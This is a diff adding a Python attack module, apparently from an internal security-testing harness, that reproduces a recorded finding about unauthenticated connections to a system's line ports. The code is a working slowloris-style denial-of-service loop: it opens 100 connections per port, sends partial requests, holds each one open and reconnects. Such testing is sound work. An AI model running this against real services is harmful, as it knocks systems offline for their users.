@@ -1,0 +1,31 @@
+"""A stranger takes up every connection that a line's port has for those who have proved nothing."""
+
+import asyncio
+import contextlib
+
+from tools.attacks.target import Target
+
+FINDING = "3: 80 unauthenticated connections to a line's port push routers to gRPC"
+
+CONNECTIONS = 100
+
+
+async def attack(target: Target) -> None:
+    """Opens many connections to each line port, says half a word, and comes again once closed."""
+    addresses = [member.line for member in target.members if member.line]
+    async with asyncio.TaskGroup() as tasks:
+        for address in addresses:
+            for number in range(CONNECTIONS):
+                tasks.create_task(_occupy(target, address, number))
+
+
+async def _occupy(target: Target, address: str, number: int) -> None:
+    while not target.is_over:
+        with contextlib.suppress(OSError):
+            async with target.connection(address) as (reader, writer):
+                writer.write(b"\x00\x00\x00" if number % 2 else b"GET / HTTP/1.1\r\n\r\n")
+                with contextlib.suppress(TimeoutError):
+                    async with asyncio.timeout(min(10.0, target.seconds_left)):
+                        await reader.read()
+        target.outcomes["connections"] += 1
+        await target.rest(0.2)
